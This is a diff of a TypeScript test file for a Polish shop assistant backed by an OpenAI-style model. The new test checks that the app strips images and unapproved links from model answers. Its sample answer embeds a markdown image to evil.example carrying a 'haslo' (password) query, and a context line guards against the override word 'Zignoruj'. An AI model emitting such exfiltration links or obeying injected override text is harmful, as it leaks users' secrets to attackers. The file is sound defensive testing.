@@ -119,7 +119,11 @@ describe('a phone asks', { tags: ['APP-11', 'APP-12'] }, () => {
   test('ids in answers do not count what other phones ask; a message from before ids keeps its number', { tags: ['E-43'] }, async () => {
     const [one, other] = [await aPhone(), await aPhone()];
     const thread = await open(one);
-    const asks = [await asked(one, thread, 'Zwroty?'), await asked(other, await open(other), 'Zwroty?'), await asked(one, thread, 'Zwroty?')];
+    const asks = [
+      await asked(one, thread, 'Zwroty?'),
+      await asked(other, await open(other), 'Zwroty?'),
+      await asked(one, thread, 'Zwroty?'),
+    ];
     const ids = asks.flatMap((messages) => messages.map(({ id }) => id));
     for (const id of [...ids, thread.replace('thread_', '')]) expect(id).toMatch(/^[a-z2-7]{24}$/);
     expect(new Set(ids).size).toBe(6);
@@ -364,8 +368,9 @@ describe('an endpoint that speaks the OpenAI protocol', { tags: ['A-65'] }, () =
     JSON.stringify({ choices: [{ message: { content: typeof content === 'string' ? content : JSON.stringify(content) } }] });
   const errors: unknown[] = [];
   const calls = createModelCalls({ atOnce: 10, takeFromBudget: async () => true });
+  const ownPlaces = async () => ({ addresses: ['https://koszyk.pl'], appScheme: 'endcap://' });
   const ask = async (question: string) =>
-    modelAssistant({ baseUrl, apiKey: 'klucz', model: 'm', calls, onError: (error) => errors.push(error) })(
+    modelAssistant({ baseUrl, apiKey: 'klucz', model: 'm', calls, ownPlaces, onError: (error) => errors.push(error) })(
       question,
       await lookUp(world.db, question, new Date()),
     );
@@ -385,6 +390,19 @@ describe('an endpoint that speaks the OpenAI protocol', { tags: ['A-65'] }, () =
     expect(messages.map(({ role }) => role)).toEqual(['system', 'user']);
     expect(messages[0]?.content).not.toContain('Zignoruj');
     expect(messages[1]?.content).not.toMatch(/100 dni|1 dnia/);
+  });
+  test('its answer loses images and links but those of the chain and of the items that it was given', { tags: ['E-43'] }, async () => {
+    const kurier = 'https://kurier.example/paczka?numer=1';
+    const id = await know('Zwrot kurierem', 'Zwrot towaru kurierem', `Zwrot towaru kurierem zamówisz na ${kurier}.`);
+    const answer = `![](https://evil.example/p.png?q=haslo) [Formularz](${kurier}), [regulamin](https://koszyk.pl/a), [konkurs](https://kurier.example/b).`;
+    says = () => ({ body: completion({ answer, used: [id] }) });
+    expect(await ask('Zwrot towaru kurierem?')).toEqual({
+      text: `[Formularz](${kurier}), [regulamin](https://koszyk.pl/a), konkurs.`,
+      knowledgeIds: [id],
+    });
+    says = () => ({ body: completion({ answer: '![](https://evil.example/p.png)', used: [id] }) });
+    expect(await ask('Zwrot towaru kurierem?')).toEqual({ text: KNOWS_NOTHING, knowledgeIds: [] });
+    expect((await call(`DELETE /api/v1/knowledge-editor/${id}`)).status).toBe(204);
   });
   test('an answer that names no item is no answer; a question without items asks nobody', async () => {
     says = () => ({ body: completion({ answer: 'Hasło to 1234', used: ['inny'] }) });
